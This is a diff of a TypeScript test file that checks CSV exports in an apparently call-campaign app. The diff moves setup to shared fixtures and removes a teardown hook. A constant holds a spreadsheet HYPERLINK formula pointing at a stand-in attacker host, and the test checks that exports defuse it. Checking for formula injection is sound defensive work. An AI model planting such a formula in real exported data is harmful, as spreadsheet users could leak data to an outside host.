@@ -3,19 +3,17 @@
 // reason. The table is checked against the route files, so a new CSV route has to join it.
 import fs from 'node:fs';
 import { parse } from 'csv-parse/sync';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { GET as callsExportRoute } from '@/app/api/campaigns/[id]/calls/export/route';
 import { GET as complianceExportRoute } from '@/app/api/campaigns/[id]/compliance/export/route';
 import { GET as leadsExportRoute } from '@/app/api/campaigns/[id]/leads/export/route';
 import { GET as templateRoute } from '@/app/api/campaigns/leads/template/route';
-import { POST as createCampaignRoute } from '@/app/api/campaigns/route';
 import { schema } from '@/db';
 import { rejectedRowsCsv } from '@/lib/client/csv-preview';
 import { complianceCampaignOf, complianceEvidence, decideForLead, loadWorkspaceComplianceContext } from '@/lib/services/compliance';
 import { sealLeadContext } from '@/lib/services/leads/lead-context';
 import { routeFiles } from '@/test/api-routes';
-import { call, signUp, validCampaign, type TestUser } from '@/test/api';
-import { useTestDb, type TestDb } from '@/test/db';
+import { call, createCampaign, apiFixtures } from '@/test/fixtures';
 import { eq } from 'drizzle-orm';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","Click")';
@@ -23,16 +21,11 @@ const HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","Click")';
 const DEFUSED = `"'${HYPERLINK.replaceAll('"', '""')}"`;
 const at = new Date('2026-06-17T15:00:00Z');
 
-let db: TestDb;
-let alice: TestUser;
+const { db, users: [alice] } = apiFixtures('Alice');
 let campaignId: string;
 
 beforeAll(async () => {
-  db = await useTestDb();
-  alice = await signUp('Alice');
-  const created = await call(createCampaignRoute, { path: '/api/campaigns', method: 'POST', token: alice.token, body: { ...validCampaign, name: 'Formulas' } });
-  expect(created.status).toBe(201);
-  campaignId = created.body.id;
+  campaignId = await createCampaign(alice, { name: 'Formulas' });
   const [{ config }] = await db.db.select({ config: schema.campaigns.config }).from(schema.campaigns).where(eq(schema.campaigns.id, campaignId));
   const [lead] = await db.db
     .insert(schema.leads)
@@ -64,7 +57,6 @@ beforeAll(async () => {
     compliance: complianceEvidence(ctx, lead, campaign, decision, at),
   });
 });
-afterAll(async () => db.drop());
 
 type CsvExport = { name: string; csv: () => Promise<{ status: number; type: string | null; body: string }>; carriesData: boolean };
 
